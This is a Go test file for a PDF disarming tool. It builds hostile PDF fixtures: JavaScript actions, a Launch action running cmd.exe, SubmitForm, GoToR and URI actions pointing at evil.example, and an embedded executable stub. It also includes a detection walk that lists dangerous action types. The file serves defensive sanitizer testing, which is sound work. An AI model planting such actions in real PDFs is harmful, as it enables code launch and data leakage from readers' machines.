package pdf

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/pdfcpu/pdfcpu/pkg/api"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/types"

	"mugai/sanitize/format"
)

const jsAction = "<< /S /JavaScript /JS (app.alert\\('PAYLOAD-JS'\\)) >>"

// docWith builds a one-page document: object 1 the catalog (with the
// extra catalog entries cat), 2 the pages, 3 the page (with the extra page
// entries page), then objs numbered from 4.
func docWith(cat, page string, objs ...string) []byte {
	all := []string{
		"<< /Type /Catalog /Pages 2 0 R " + cat + " >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + " >>",
	}
	return buildPDF(append(all, objs...), nil)
}

// outlineChain is an outline whose items 5… are linked by /Next, n long,
// the last one holding last (an /A or other entries).
func outlineChain(n int, last string) []byte {
	objs := []string{fmt.Sprintf("<< /Type /Outlines /First 5 0 R /Last %d 0 R /Count %d >>", 4+n, n)}
	for i := 1; i <= n; i++ {
		nr := 4 + i
		item := fmt.Sprintf("<< /Title (item %d) /Parent 4 0 R /Dest [3 0 R /Fit]", i)
		if i > 1 {
			item += fmt.Sprintf(" /Prev %d 0 R", nr-1)
		}
		if i < n {
			item += fmt.Sprintf(" /Next %d 0 R", nr+1)
		} else {
			item = strings.Replace(item, "/Dest [3 0 R /Fit]", "", 1) + " " + last
		}
		objs = append(objs, item+" >>")
	}
	return docWith("/Outlines 4 0 R", "", objs...)
}

// outlineNested is an outline n levels deep (each item the only child of
// the one before), the deepest holding last.
func outlineNested(n int, last string) []byte {
	objs := []string{"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>"}
	for i := 1; i <= n; i++ {
		nr, parent := 4+i, 3+i
		item := fmt.Sprintf("<< /Title (level %d) /Parent %d 0 R", i, parent)
		if i < n {
			item += fmt.Sprintf(" /First %d 0 R /Last %d 0 R /Count 1 /Dest [3 0 R /Fit]", nr+1, nr+1)
		} else {
			item += " " + last
		}
		objs = append(objs, item+" >>")
	}
	return docWith("/Outlines 4 0 R", "", objs...)
}

// directChain is the case: a /Next chain of direct dictionaries,
// n deep, JavaScript at its end.
func directChain(n int) []byte {
	item := "<< /Title (last) /A " + jsAction + " >>"
	for i := n; i > 1; i-- {
		item = fmt.Sprintf("<< /Title (item %d) /Next %s >>", i, item)
	}
	return docWith("/Outlines 4 0 R", "", "<< /Type /Outlines /First "+item+" >>")
}

// hostileOutlines are the bookmark constructions the disarmer must make
// harmless; each is refused by Verify as it is.
func hostileOutlines() map[string][]byte {
	return map[string][]byte{
		"chain-40-js":        outlineChain(40, "/A "+jsAction),
		"chain-33-js":        outlineChain(33, "/A "+jsAction),
		"nested-40-js":       outlineNested(40, "/A "+jsAction),
		"nested-33-js":       outlineNested(33, "/A "+jsAction),
		"nested-100-js":      outlineNested(100, "/A "+jsAction),
		"direct-chain-40-js": directChain(40),
		"launch":             outlineChain(3, "/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"),
		"gotor":              outlineChain(3, "/A << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
		"gotoe":              outlineChain(3, "/A << /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>"),
		"uri":                outlineChain(3, "/A << /S /URI /URI (http://evil.example/) >>"),
		"submit":             outlineChain(3, "/A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>"),
		"import":             outlineChain(3, "/A << /S /ImportData /F (data.fdf) >>"),
		"named-print":        outlineChain(3, "/A << /S /Named /N /Print >>"),
		"next-dict":          outlineChain(3, "/A << /S /GoTo /D [3 0 R /Fit] /Next "+jsAction+" >>"),
		"next-array":         outlineChain(3, "/A << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage >> "+jsAction+"] >>"),
		"goto-remote-page":   outlineChain(3, "/A << /S /GoTo /D [0 /Fit] /F (other.pdf) >>"),
		"goto-not-a-page":    outlineChain(3, "/A << /S /GoTo /D [4 0 R /Fit] >> /X "+jsAction),
		"dest-remote-page":   outlineChain(3, "/Dest [5 /Fit] /SE "+jsAction),
		"js-in-item":         outlineChain(3, "/S /JavaScript /JS (app.alert\\('PAYLOAD-JS'\\))"),
		"structure-element":  outlineChain(3, "/SE << /Type /StructElem /S /P /A "+jsAction+" >>"),
		"cycle": docWith("/Outlines 4 0 R", "",
			"<< /Type /Outlines /First 5 0 R /Last 6 0 R >>",
			"<< /Title (a) /Parent 4 0 R /Next 6 0 R /A "+jsAction+" >>",
			"<< /Title (b) /Parent 4 0 R /Prev 5 0 R /Next 5 0 R >>"),
		"first-cycle": docWith("/Outlines 4 0 R", "",
			"<< /Type /Outlines /First 5 0 R /Last 5 0 R >>",
			"<< /Title (a) /Parent 4 0 R /First 5 0 R /A "+jsAction+" >>"),
		"last-only": docWith("/Outlines 4 0 R", "",
			"<< /Type /Outlines /Last 5 0 R >>",
			"<< /Title (hidden) /Parent 4 0 R /A "+jsAction+" >>"),
		"prev-only": docWith("/Outlines 4 0 R", "",
			"<< /Type /Outlines /First 5 0 R /Last 5 0 R >>",
			"<< /Title (a) /Parent 4 0 R /Prev 6 0 R /Dest [3 0 R /Fit] >>",
			"<< /Title (hidden) /Parent 4 0 R /Next 5 0 R /A "+jsAction+" >>"),
		"parent-elsewhere": docWith("/Outlines 4 0 R", "",
			"<< /Type /Outlines /First 5 0 R /Last 5 0 R >>",
			"<< /Title (a) /Parent 6 0 R /Dest [3 0 R /Fit] >>",
			"<< /Title (hidden) /A "+jsAction+" >>"),
		"parent-is-catalog": docWith("/Outlines 4 0 R", "",
			"<< /Type /Outlines /First 5 0 R /Last 5 0 R >>",
			"<< /Title (a) /Parent 1 0 R /A "+jsAction+" >>"),
	}
}

// hostileElsewhere are actions in the other places they hide.
func hostileElsewhere() map[string][]byte {
	return map[string][]byte{
		"thread-bead": docWith("/Threads [4 0 R]", "/B [5 0 R]",
			"<< /Type /Thread /F 5 0 R >>",
			"<< /Type /Bead /T 4 0 R /N 5 0 R /V 5 0 R /P 3 0 R /R [0 0 10 10] /A "+jsAction+" >>"),
		"pieceinfo":   docWith("/PieceInfo << /App << /Private "+jsAction+" >> >>", "/PieceInfo << /App << /Private 4 0 R >> >>", jsAction),
		"annot-pa":    docWith("", "/Annots [4 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /PA "+jsAction+" >>"),
		"annot-next":  docWith("", "/Annots [4 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Named /N /NextPage /Next [5 0 R] >> >>", jsAction),
		"annot-named": docWith("", "/Annots [4 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Named /N /SaveAs >> >>"),
		"annot-goto-remote": docWith("", "/Annots [4 0 R]",
			"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [2 /Fit] >> >>"),
		"annot-dest-name-missing": docWith("", "/Annots [4 0 R]",
			"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Dest (nowhere) >>"),
		"popup-js": docWith("", "/Annots [4 0 R]",
			"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Popup 5 0 R >>",
			"<< /Type /Annot /Subtype /Popup /Rect [0 0 9 9] /A "+jsAction+" /AA << /E "+jsAction+" >> >>"),
		"objr-widget": docWith("/StructTreeRoot 4 0 R", "",
			"<< /Type /StructTreeRoot /K [5 0 R] >>",
			"<< /Type /StructElem /S /Form /P 4 0 R /K [<< /Type /OBJR /Obj 6 0 R /Pg 3 0 R >>] >>",
			"<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 9 9] /AA << /D "+jsAction+" >> >>"),
		"acroform-field-aa": docWith("/AcroForm << /Fields [4 0 R] >>", "",
			"<< /FT /Tx /T (f) /AA << /K "+jsAction+" >> >>"),
		"openaction-in-page": docWith("", "/OpenAction "+jsAction),
		"catalog-aa":         docWith("/AA << /WC "+jsAction+" >>", ""),
		"unknown-key-action": docWith("/Foo 4 0 R", "/Bar [4 0 R]", jsAction),
		"deep-direct-33":     docWith("", "/Deep "+strings.Repeat("<< /X ", 33)+"<< /S /Launch /F (cmd.exe) >>"+strings.Repeat(" >>", 33)),
		"deep-array-40":      docWith("", "/Deep "+strings.Repeat("[ ", 40)+jsAction+strings.Repeat(" ]", 40)),
		"names-js":           docWith("/Names << /JavaScript << /Names [(a) "+jsAction+"] >> >>", ""),
		"af-file": docWith("/AF [4 0 R]", "",
			"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", stream("/Type /EmbeddedFile", "MZ-PAYLOAD-EXE")),
	}
}

// findActive is the tests' own walk of every object reachable from the
// trailer (independent of Verify): it lists JavaScript, actions of other
// kinds than GoTo/Named/URI, URI unless kept, named actions other than
// page turning, chained actions and automatic actions.
func findActive(t testing.TB, pdf []byte, uriKept bool) []string {
	t.Helper()
	conf := model.NewDefaultConfiguration()
	conf.ValidationMode = model.ValidationRelaxed
	pc, err := api.ReadContext(bytes.NewReader(pdf), conf)
	if err != nil {
		t.Fatalf("output does not read: %v", err)
	}
	xt := pc.XRefTable
	var found []string
	seen := map[int]bool{}
	stack := []types.Object{*xt.Root}
	if xt.Info != nil {
		stack = append(stack, *xt.Info)
	}
	for len(stack) > 0 {
		o := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		if r, ok := o.(types.IndirectRef); ok {
			if seen[int(r.ObjectNumber)] {
				continue
			}
			seen[int(r.ObjectNumber)] = true
			if o, err = xt.Dereference(r); err != nil {
				t.Fatalf("object %d: %v", r.ObjectNumber, err)
			}
		}
		var d types.Dict
		switch x := o.(type) {
		case types.Array:
			stack = append(stack, x...)
			continue
		case types.StreamDict:
			d = x.Dict
		case types.Dict:
			d = x
		default:
			continue
		}
		for k, v := range d {
			stack = append(stack, v)
			switch k {
			case "JS", "AA", "OpenAction", "EF", "XFA":
				found = append(found, "/"+k)
			}
		}
		if st := d.NameEntry("Subtype"); st != nil && (*st == "Widget" || *st == "FileAttachment") {
			found = append(found, "/Subtype /"+*st)
		}
		s := d.NameEntry("S")
		if s == nil {
			continue
		}
		switch *s {
		case "JavaScript", "Launch", "GoToR", "GoToE", "SubmitForm", "ImportData", "ResetForm", "Rendition", "Movie", "Sound", "Hide", "SetOCGState", "RichMediaExecute", "Thread":
			found = append(found, "/S /"+*s)
		case "URI":
			if !uriKept {
				found = append(found, "/S /URI")
			}
		case "Named":
			if n := d.NameEntry("N"); n == nil || !namedNav[*n] {
				found = append(found, "named action")
			}
		}
		if _, ok := d["Next"]; ok && (*s == "GoTo" || *s == "Named" || *s == "URI") {
			found = append(found, "chained action")
		}
		if *s == "GoTo" {
			a, _ := d["D"].(types.Array)
			if len(a) == 0 {
				found = append(found, "GoTo to a name")
			} else if _, ok := a[0].(types.IndirectRef); !ok {
				found = append(found, "GoTo to a page of another file")
			}
		}
	}
	return found
}

func TestVerifyRefusesHostileInputs(t *testing.T) {
	for name, in := range merge(hostileOutlines(), hostileElsewhere()) {
		if name == "annot-dest-name-missing" {
			continue // unresolvable: refused below as output, harmless as input
		}
		if err := Verify(in, false); err == nil {
			t.Errorf("%s: Verify accepts the hostile input", name)
		}
		if len(findActive(t, in, false)) == 0 {
			t.Errorf("%s: the tests' own walk finds nothing in the hostile input: it proves nothing", name)
		}
	}
}

func merge(ms ...map[string][]byte) map[string][]byte {
	out := map[string][]byte{}
	for _, m := range ms {
		for k, v := range m {
			out[k] = v
		}
	}
	return out
}

func TestDisarmOutlinesAndHiddenActions(t *testing.T) {
	for name, in := range merge(hostileOutlines(), hostileElsewhere()) {
		t.Run(name, func(t *testing.T) {
			var out bytes.Buffer
			v, err := (&Disarmer{}).Sanitize(context.Background(), format.Part{}, bytes.NewReader(in), &out)
			if err != nil {
				// Refusing is allowed only where the file cannot be made safe.
				t.Fatalf("disarm: %v", err)
			}
			if got := findActive(t, out.Bytes(), false); len(got) > 0 {
				t.Errorf("active content left: %v", got)
			}
			for _, p := range []string{"PAYLOAD-JS", "cmd.exe", "evil.example", "MZ-PAYLOAD"} {
				if bytes.Contains(out.Bytes(), []byte(p)) {
					t.Errorf("output contains %s", p)
				}
			}
			if strings.HasPrefix(v.EN(), "Nothing active") {
				t.Errorf("verdict says nothing was removed: %v", v.Notes)
			}
			if err := Verify(out.Bytes(), false); err != nil {
				t.Errorf("output fails verification: %v", err)
			}
		})
	}
}

// What the disarmer keeps of an outline is a working outline: the tree,
// titles, a named destination resolved to its page, page turning.
func TestDisarmKeepsGoodOutline(t *testing.T) {
	in := docWith("/Outlines 4 0 R /Names << /Dests << /Names [(sec1) [3 0 R /XYZ 0 100 null]] >> >>", "",
		"<< /Type /Outlines /First 5 0 R /Last 6 0 R /Count 3 >>",
		"<< /Title (Chapter 1) /Parent 4 0 R /Next 6 0 R /Dest (sec1) /C [1 0 0] /F 2 /SE 9 0 R >>",
		"<< /Title (Chapter 2) /Parent 4 0 R /Prev 5 0 R /First 7 0 R /Last 7 0 R /Count -1 /A << /S /Named /N /NextPage >> >>",
		"<< /Title <FEFF65E5672C> /Parent 6 0 R /A << /S /GoTo /D (sec1) >> >>",
		"<< /Type /StructElem /S /Sect >>",
	)
	out, v := disarm(t, &Disarmer{}, in)
	pc, err := read(out)
	if err != nil {
		t.Fatal(err)
	}
	xt := pc.XRefTable
	cat, _ := xt.Catalog()
	root, err := xt.DereferenceDict(cat["Outlines"])
	if err != nil || root == nil {
		t.Fatalf("outline gone: %v (removed %v)", err, v.Notes)
	}
	c1, _ := xt.DereferenceDict(root["First"])
	c2, _ := xt.DereferenceDict(c1["Next"])
	c3, _ := xt.DereferenceDict(c2["First"])
	if c1 == nil || c2 == nil || c3 == nil {
		t.Fatalf("tree broken: %v %v %v", c1, c2, c3)
	}
	if title, _ := types.StringOrHexLiteral(c1["Title"]); title == nil || *title != "Chapter 1" {
		t.Errorf("title %v", c1["Title"])
	}
	if d, ok := c1["Dest"].(types.Array); !ok || len(d) != 5 || nameOf(d[1]) != "XYZ" {
		t.Errorf("named destination not resolved to its page: %v", c1["Dest"])
	}
	if _, ok := c1["SE"]; ok {
		t.Error("/SE kept")
	}
	if n := nameOf(c2["A"].(types.Dict)["N"]); n != "NextPage" {
		t.Errorf("page turning lost: %v", c2["A"])
	}
	if a, _ := c3["A"].(types.Dict); a == nil || nameOf(a["S"]) != "GoTo" {
		t.Errorf("GoTo by name lost: %v", c3["A"])
	}
	if got := findActive(t, out, false); len(got) > 0 {
		t.Errorf("active: %v", got)
	}
	if !strings.Contains(v.EN(), "structure elements (bookmarks)") {
		t.Errorf("removed %v", v.Notes)
	}
}

// Every limit of the bookmark walk removes the outline whole in the
// disarmer and fails the verifier.
func TestOutlineLimitsFailClosed(t *testing.T) {
	cases := map[string][]byte{
		"too-many": outlineChain(maxOutlineItems+5, "/Dest [3 0 R /Fit]"),
		"too-deep": outlineNested(maxOutlineDepth+1, "/Dest [3 0 R /Fit]"),
	}
	for name, in := range cases {
		err := Verify(in, false)
		if !errors.Is(err, errLimit) {
			t.Errorf("%s: Verify: %v, want the limit error", name, err)
		}
		out, v := disarm(t, &Disarmer{}, in)
		pc, err := read(out)
		if err != nil {
			t.Fatal(err)
		}
		cat, _ := pc.XRefTable.Catalog()
		if _, ok := cat["Outlines"]; ok {
			t.Errorf("%s: outline kept", name)
		}
		if !strings.Contains(v.EN(), "bookmarks, whole") {
			t.Errorf("%s: removed %v", name, v.Notes)
		}
	}
	// Just under the limits the outline is kept.
	for name, in := range map[string][]byte{
		"many":     outlineChain(200, "/Dest [3 0 R /Fit]"),
		"deep":     outlineNested(maxOutlineDepth, "/Dest [3 0 R /Fit]"),
		"depth-33": outlineNested(33, "/Dest [3 0 R /Fit]"),
		"chain-40": outlineChain(40, "/Dest [3 0 R /Fit]"),
	} {
		if err := Verify(in, false); err != nil {
			t.Errorf("%s: Verify refuses a clean outline: %v", name, err)
		}
		out, _ := disarm(t, &Disarmer{}, in)
		cat := catalogOf(t, out)
		if _, ok := cat["Outlines"]; !ok {
			t.Errorf("%s: clean outline removed", name)
		}
	}
}

func catalogOf(t *testing.T, pdf []byte) types.Dict {
	t.Helper()
	pc, err := read(pdf)
	if err != nil {
		t.Fatal(err)
	}
	cat, err := pc.XRefTable.Catalog()
	if err != nil {
		t.Fatal(err)
	}
	return cat
}

// A deadline stops the disarmer too.
func TestDisarmCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	var out bytes.Buffer
	_, err := (&Disarmer{}).Sanitize(ctx, format.Part{}, bytes.NewReader(outlineChain(3000, "/Dest [3 0 R /Fit]")), &out)
	if !errors.Is(err, context.Canceled) {
		t.Errorf("err %v, want context.Canceled", err)
	}
}

// With KeepURI a bookmark's web link stays; a javascript: or file: URI
// does not, kept or not.
func TestOutlineURI(t *testing.T) {
	web := outlineChain(2, "/A << /S /URI /URI (https://www.city.example.jp/) >>")
	out, _ := disarm(t, &Disarmer{KeepURI: true}, web)
	if !bytes.Contains(out, []byte("www.city.example.jp")) {
		t.Error("kept web link lost")
	}
	if got := findActive(t, out, true); len(got) > 0 {
		t.Errorf("active: %v", got)
	}
	out, _ = disarm(t, &Disarmer{}, web)
	if bytes.Contains(out, []byte("www.city.example.jp")) {
		t.Error("web link kept without KeepURI")
	}
	for _, u := range []string{"javascript:app.alert(1)", "file://evil.example/share/x.exe", "\\\\\\\\evil.example\\\\share"} {
		out, _ := disarm(t, &Disarmer{KeepURI: true}, outlineChain(2, "/A << /S /URI /URI ("+u+") >>"))
		if bytes.Contains(out, []byte("evil.example")) || bytes.Contains(out, []byte("javascript")) {
			t.Errorf("%s kept", u)
		}
	}
}
